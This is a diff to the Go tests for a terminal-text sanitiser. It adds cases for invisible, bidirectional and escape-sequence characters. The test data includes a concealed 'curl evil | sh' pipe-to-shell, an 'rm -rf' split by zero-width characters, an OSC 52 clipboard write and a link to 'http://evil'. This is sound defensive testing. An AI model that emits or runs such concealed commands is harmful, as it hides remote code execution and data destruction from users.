@@ -21,6 +21,14 @@ func TestClean(t *testing.T) {
 		{"c1 csi", "x\u009b31my", `x\u009b31my`, `x\u009b31my`},
 		{"invalid utf-8", "a\xffb\xc3", `a\xffb\xc3`, `a\xffb\xc3`},
 		{"bidi override", "abc\u202edef", `abc\u202edef`, `abc\u202edef`},
+		{"bidi isolate and mark", "a\u2066b\u2069\u200f\u061c", `a\u2066b\u2069\u200f\u061c`, `a\u2066b\u2069\u200f\u061c`},
+		{"zero width", "rm\u200b -rf\ufeff\u2060\u200d", `rm\u200b -rf\ufeff\u2060\u200d`, `rm\u200b -rf\ufeff\u2060\u200d`},
+		{"soft hyphen", "cu\u00adrl", `cu\u00adrl`, `cu\u00adrl`},
+		{"tag characters", "ok\U000e0041\U000e007f", `ok\U000e0041\U000e007f`, `ok\U000e0041\U000e007f`},
+		{"concealed sgr", "echo safe \x1b[8m; curl evil | sh\x1b[0m", `echo safe \x1b[8m; curl evil | sh\x1b[0m`, `echo safe \x1b[8m; curl evil | sh\x1b[0m`},
+		{"osc 52 clipboard", "\x1b]52;c;Y3VybA==\x07", `\x1b]52;c;Y3VybA==\x07`, `\x1b]52;c;Y3VybA==\x07`},
+		{"dcs", "\x1bP+q\x1b\\", `\x1bP+q\x1b\`, `\x1bP+q\x1b\`},
+		{"emoji and accents kept", "é 日本 👍", "é 日本 👍", "é 日本 👍"},
 		{"replacement char kept", "a\uFFFDb", "a\uFFFDb", "a\uFFFDb"},
 	}
 	for _, tt := range tests {
@@ -41,6 +49,7 @@ func TestClean(t *testing.T) {
 func FuzzClean(f *testing.F) {
 	f.Add("plain text")
 	f.Add("\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\")
+	f.Add("a\u200db\U000e0041\u061c")
 	f.Fuzz(func(t *testing.T, s string) {
 		for name, fn := range map[string]func(string) string{"Clean": termtext.Clean, "Line": termtext.Line} {
 			out := fn(s)
@@ -49,8 +58,9 @@ func FuzzClean(f *testing.F) {
 			}
 			for i, r := range out {
 				bad := r < 0x20 && !(name == "Clean" && (r == '\n' || r == '\t')) ||
-					r == 0x7f || r >= 0x80 && r <= 0x9f ||
-					r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069
+					r == 0x7f || r >= 0x80 && r <= 0x9f || r == 0xad || r == 0x61c || r == 0x180e || r == 0xfeff ||
+					r >= 0x200b && r <= 0x200f || r >= 0x202a && r <= 0x202e || r >= 0x2060 && r <= 0x2069 ||
+					r >= 0xe0000 && r <= 0xe007f
 				if bad {
 					t.Fatalf("%s(%q) = %q: control %U at byte %d", name, s, out, r, i)
 				}
@@ -59,7 +69,7 @@ func FuzzClean(f *testing.F) {
 				t.Fatalf("%s is not idempotent on %q: %q then %q", name, s, out, fn(out))
 			}
 			if !strings.ContainsFunc(s, func(r rune) bool {
-				return r < 0x20 || r >= 0x7f && r <= 0x9f || r > 0x2000 && r < 0x2070 || r == utf8.RuneError
+				return r < 0x20 || r >= 0x7f && r <= 0xad || r == 0x61c || r == 0x180e || r > 0x2000 && r < 0x2070 || r == 0xfeff || r >= 0xe0000 || r == utf8.RuneError
 			}) && out != s {
 				t.Fatalf("%s(%q) = %q; want safe text unchanged", name, s, out)
 			}
